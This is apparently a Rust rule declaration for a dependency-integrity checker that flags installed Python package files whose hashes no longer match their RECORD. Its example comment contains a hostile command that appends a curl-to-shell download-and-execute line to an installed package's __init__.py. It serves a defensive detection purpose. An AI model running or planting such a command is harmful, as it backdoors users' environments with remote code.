pyward_core::declare_rule! {
    /// ## What it does
    /// With `pyward deps --env PATH`, checks every file listed in each installed distribution's
    /// `RECORD` against its sha256 digest and size, and reports the files that differ.
    ///
    /// ## Why is this bad?
    /// The files in site-packages are code that runs in your service. A file that no longer
    /// matches what was installed was edited after install: by hand, by a post-install hook, or by
    /// an attacker persisting in the environment ("poisoned" packages).
    ///
    /// ## Example
    /// ```text
    /// $ echo 'import os; os.system("curl evil | sh")' >> .venv/lib/python3.12/site-packages/requests/__init__.py
    /// ```
    ///
    /// ## Use instead
    /// Reinstall the distribution (`pip install --force-reinstall --no-deps requests==2.32.3`) and
    /// find out how the file changed.
    ///
    /// ## References
    /// - [CWE-354: Improper Validation of Integrity Check Value](https://cwe.mitre.org/data/definitions/354.html)
    /// - [Recording installed projects (RECORD)](https://packaging.python.org/en/latest/specifications/recording-installed-packages/)
    pub static MODIFIED_INSTALLED_FILE = {
        code: "DEP201",
        name: "modified-installed-file",
        analyzer: "deps",
        summary: "An installed file does not match the hash or size in its distribution's RECORD",
        severity: High,
        confidence: High,
        cwe: 354,
    }
}
